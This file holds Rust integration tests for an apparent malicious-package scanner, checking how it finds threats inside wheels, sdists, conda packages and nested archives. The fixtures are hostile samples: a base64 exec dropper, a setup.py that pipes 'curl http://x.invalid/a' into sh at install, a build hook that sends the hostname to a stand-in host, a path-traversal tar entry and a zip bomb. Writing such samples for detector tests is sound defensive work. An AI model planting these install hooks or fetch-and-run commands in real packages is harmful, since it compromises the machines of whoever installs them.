//! Archives are read in memory: members are reported as `ARCHIVE!/MEMBER`,
//! nested archives chain, traversal paths are normalised, and a corrupt
//! archive or a bomb is an error while everything else is still scanned.

mod common;

use common::scan_json;
use std::io::Write;

const DROPPER: &str = "import base64\nexec(base64.b64decode('cHJpbnQoJ2hpJyk='))\n";

fn zip_of(members: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let opts = zip::write::SimpleFileOptions::default().compression_method(method);
    for (name, data) in members {
        w.start_file(*name, opts).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

fn tar_gz_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    let mut t = tar::Builder::new(gz);
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        // set_path refuses "..": write the raw name as an attacker would
        let raw = name.as_bytes();
        h.as_old_mut().name[..raw.len()].copy_from_slice(raw);
        h.set_cksum();
        t.append(&h, *data).unwrap();
    }
    t.into_inner().unwrap().finish().unwrap()
}

fn paths(r: &serde_json::Value) -> Vec<String> {
    common::finding_lines(r)
}

#[test]
fn a_wheel_member_is_reported_inside_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    let whl = zip_of(
        &[
            ("evil/__init__.py", DROPPER.as_bytes()),
            ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
        ],
        zip::CompressionMethod::Deflated,
    );
    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), whl).unwrap();
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1);
    let p = paths(&r);
    assert!(
        p.iter()
            .any(|x| x.ends_with("evil-1.0-py3-none-any.whl!/evil/__init__.py HS101 2")),
        "{p:?}"
    );
}

#[test]
fn a_wheel_names_its_package_and_so_does_an_unpacked_sdist() {
    let dir = tempfile::tempdir().unwrap();
    let whl = zip_of(
        &[
            ("evil/__init__.py", DROPPER.as_bytes()),
            ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
        ],
        zip::CompressionMethod::Deflated,
    );
    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), whl).unwrap();
    let root = dir.path().join("evil-2.0");
    std::fs::create_dir_all(root.join("evil")).unwrap();
    std::fs::write(
        root.join("PKG-INFO"),
        "Metadata-Version: 1.0\nName: evil\nVersion: 2.0\n",
    )
    .unwrap();
    std::fs::write(root.join("evil/__init__.py"), DROPPER).unwrap();
    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
    let f = r["findings"].as_array().unwrap();
    let of = |suffix: &str| {
        f.iter()
            .find(|x| x["path"].as_str().unwrap().ends_with(suffix))
            .unwrap_or_else(|| panic!("{suffix}: {:?}", paths(&r)))["package"]
            .clone()
    };
    assert_eq!(
        of("whl!/evil/__init__.py"),
        serde_json::json!({"name": "evil", "version": "1.0"})
    );
    assert_eq!(
        of("evil-2.0/evil/__init__.py"),
        serde_json::json!({"name": "evil", "version": "2.0"})
    );
}

#[test]
fn an_sdist_setup_py_runs_at_install_and_traversal_is_normalised() {
    let dir = tempfile::tempdir().unwrap();
    let setup = b"from setuptools import setup\nimport os\nos.system('curl -s http://x.invalid/a | sh')\nsetup(name='x')\n";
    let sdist = tar_gz_of(&[
        ("x-1.0/setup.py", setup),
        ("../../escape.py", DROPPER.as_bytes()),
    ]);
    // pip's HTTP cache keeps bodies without an extension: found by magic bytes
    std::fs::write(dir.path().join("4f1c2e9a"), sdist).unwrap();
    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
    let findings = r["findings"].as_array().unwrap();
    let setup_hit = findings
        .iter()
        .find(|f| {
            f["path"]
                .as_str()
                .unwrap()
                .ends_with("4f1c2e9a!/x-1.0/setup.py")
        })
        .unwrap_or_else(|| panic!("{:?}", paths(&r)));
    assert_eq!(setup_hit["context"], "install");
    assert!(
        findings
            .iter()
            .any(|f| f["path"].as_str().unwrap().ends_with("4f1c2e9a!/escape.py")),
        "{:?}",
        paths(&r)
    );
}

#[test]
fn nested_archives_chain_their_paths() {
    let dir = tempfile::tempdir().unwrap();
    let inner = zip_of(
        &[("pkg/mod.py", DROPPER.as_bytes())],
        zip::CompressionMethod::Stored,
    );
    let outer = zip_of(
        &[("wheels/pkg-1.0-py3-none-any.whl", &inner)],
        zip::CompressionMethod::Stored,
    );
    std::fs::write(dir.path().join("bundle.zip"), outer).unwrap();
    let (_, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert!(
        paths(&r)
            .iter()
            .any(|p| p.contains("bundle.zip!/wheels/pkg-1.0-py3-none-any.whl!/pkg/mod.py HS101")),
        "{:?}",
        paths(&r)
    );
}

#[test]
fn a_corrupt_archive_and_a_bomb_are_errors_and_the_rest_is_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let mut broken = zip_of(
        &[("a.py", DROPPER.as_bytes())],
        zip::CompressionMethod::Stored,
    );
    broken.truncate(broken.len() / 2);
    std::fs::write(dir.path().join("broken.whl"), broken).unwrap();
    // 300 MB of zeros compresses ~1000:1
    let zeros = vec![0u8; 300 << 20];
    let bomb = zip_of(&[("zeros.bin", &zeros)], zip::CompressionMethod::Deflated);
    std::fs::write(dir.path().join("bomb.zip"), bomb).unwrap();
    std::fs::write(dir.path().join("x.py"), DROPPER).unwrap();
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "the dropper beside them is still found");
    let errors: Vec<String> = r["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            format!(
                "{} {}",
                e["path"].as_str().unwrap(),
                e["message"].as_str().unwrap()
            )
        })
        .collect();
    assert!(
        errors
            .iter()
            .any(|e| e.contains("broken.whl") && e.contains("corrupt")),
        "{errors:?}"
    );
    assert!(errors.iter().any(|e| e.contains("bomb.zip")), "{errors:?}");
    assert!(paths(&r).iter().any(|p| p.ends_with("x.py HS101 2")));
}

fn tar_zst_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut t = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_entry_type(tar::EntryType::Regular);
        h.set_path(name).unwrap();
        h.set_cksum();
        t.append(&h, *data).unwrap();
    }
    let tar = t.into_inner().unwrap();
    ruzstd::encoding::compress_to_vec(tar.as_slice(), ruzstd::encoding::CompressionLevel::Fastest)
}

#[test]
fn a_conda_package_is_read_through_its_zstd_tars() {
    // A .conda is a zip (stored) of info-*.tar.zst and pkg-*.tar.zst.
    let pkg = tar_zst_of(&[
        (
            "lib/python3.11/site-packages/evil/__init__.py",
            DROPPER.as_bytes(),
        ),
        (
            "lib/python3.11/site-packages/evil-3.0.dist-info/METADATA",
            b"Name: evil\nVersion: 3.0\n",
        ),
    ]);
    let info = tar_zst_of(&[("info/index.json", br#"{"name": "evil", "version": "3.0"}"#)]);
    let conda = zip_of(
        &[
            ("metadata.json", br#"{"conda_pkg_format_version": 2}"#),
            ("info-evil-3.0-py_0.tar.zst", &info),
            ("pkg-evil-3.0-py_0.tar.zst", &pkg),
        ],
        zip::CompressionMethod::Stored,
    );
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("evil-3.0-py_0.conda"), conda).unwrap();
    let before = common::files_under(dir.path());
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "{r}");
    let f = r["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "HS101")
        .unwrap_or_else(|| panic!("{:?}", paths(&r)));
    assert!(
        f["path"].as_str().unwrap().ends_with(
            "evil-3.0-py_0.conda!/pkg-evil-3.0-py_0.tar.zst!/lib/python3.11/site-packages/evil/__init__.py"
        ),
        "{}",
        f["path"]
    );
    assert_eq!(f["line"], 2);
    assert_eq!(
        f["package"],
        serde_json::json!({"name": "evil", "version": "3.0"})
    );
    assert_eq!(r["errors"].as_array().unwrap().len(), 0, "{r}");
    assert_eq!(common::files_under(dir.path()), before, "nothing written");
}

#[test]
fn build_hooks_run_at_install_whatever_the_member_order() {
    // The backend comes before pyproject.toml in the tar, as it may.
    let backend = b"import socket, urllib.request\n\ndef build_wheel(d, c=None, m=None):\n    urllib.request.urlopen('https://x.example.com/?h=' + socket.gethostname())\n";
    let pyproject = b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
    let plain = b"import socket, urllib.request\n\ndef build_wheel(d, c=None, m=None):\n    urllib.request.urlopen('https://x.example.com/?h=' + socket.gethostname())\n";
    let sdist = tar_gz_of(&[
        ("fastx-1.0/_build/backend.py", backend),
        ("fastx-1.0/fastx/util.py", plain),
        ("fastx-1.0/pyproject.toml", pyproject),
        ("fastx-1.0/PKG-INFO", b"Name: fastx\nVersion: 1.0\n"),
    ]);
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("fastx-1.0.tar.gz"), sdist).unwrap();
    let (code, r) = scan_json(&[dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "{r}");
    let at = |suffix: &str, rule: &str| {
        r["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["path"].as_str().unwrap().ends_with(suffix) && f["rule"] == rule)
            .cloned()
    };
    let hook = at("!/fastx-1.0/_build/backend.py", "HS105")
        .expect("the backend reaches the network at install");
    assert_eq!(
        (
            hook["context"].as_str(),
            hook["severity"].as_str(),
            hook["line"].as_u64()
        ),
        (Some("install"), Some("high"), Some(4))
    );
    // The same code in an ordinary module runs only when called.
    let plain = at("!/fastx-1.0/fastx/util.py", "HS114").expect("a beacon in a module");
    assert_eq!(
        (plain["context"].as_str(), plain["severity"].as_str()),
        (Some("run"), Some("medium"))
    );
    assert!(at("!/fastx-1.0/fastx/util.py", "HS105").is_none());
}

#[test]
fn a_cmdclass_module_on_disk_runs_at_install() {
    let d = common::root().join("corpus/malicious/HS113-shell-download-exec/cmdclass-module");
    let (_, r) = scan_json(&[d.to_str().unwrap()]);
    let f = &r["findings"][0];
    assert!(
        f["path"].as_str().unwrap().ends_with("build_helpers.py"),
        "{r}"
    );
    assert_eq!(f["context"], "install");
    // Alone, without the setup.py that names it, the same file is a module.
    let lone = tempfile::tempdir().unwrap();
    std::fs::copy(
        d.join("build_helpers.py"),
        lone.path().join("build_helpers.py"),
    )
    .unwrap();
    let (_, r) = scan_json(&[lone.path().to_str().unwrap()]);
    assert_eq!(r["findings"][0]["context"], "run", "{r}");
}

#[test]
fn human_output_groups_findings_by_package_under_a_verdict() {
    let dir = tempfile::tempdir().unwrap();
    let evil = zip_of(
        &[
            ("evil/__init__.py", DROPPER.as_bytes()),
            ("evil-1.0.dist-info/METADATA", b"Name: evil\nVersion: 1.0\n"),
        ],
        zip::CompressionMethod::Deflated,
    );
    let meh = zip_of(
        &[
            (
                "meh/__init__.py",
                b"import subprocess, sys\ndef bg():\n    subprocess.Popen([sys.executable, 'w.py'], start_new_session=True)\n",
            ),
            ("meh-2.0.dist-info/METADATA", b"Name: meh\nVersion: 2.0\n"),
        ],
        zip::CompressionMethod::Deflated,
    );
    std::fs::write(dir.path().join("evil-1.0-py3-none-any.whl"), evil).unwrap();
    std::fs::write(dir.path().join("meh-2.0-py3-none-any.whl"), meh).unwrap();
    let out = common::hiss().arg("scan").arg(dir.path()).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let text = String::from_utf8_lossy(&out.stdout);
    let evil_at = text
        .find("package evil 1.0: malicious (1 critical)")
        .expect(&text);
    let meh_at = text
        .find("package meh 2.0: suspicious (1 medium)")
        .expect(&text);
    let hs101 = text.find("critical[HS101]").unwrap();
    let hs110 = text.find("medium[HS110]").unwrap();
    assert!(
        evil_at < hs101 && hs101 < meh_at && meh_at < hs110,
        "{text}"
    );
    assert!(
        text.ends_with("packages: 1 malicious, 1 suspicious\n"),
        "{text}"
    );
}
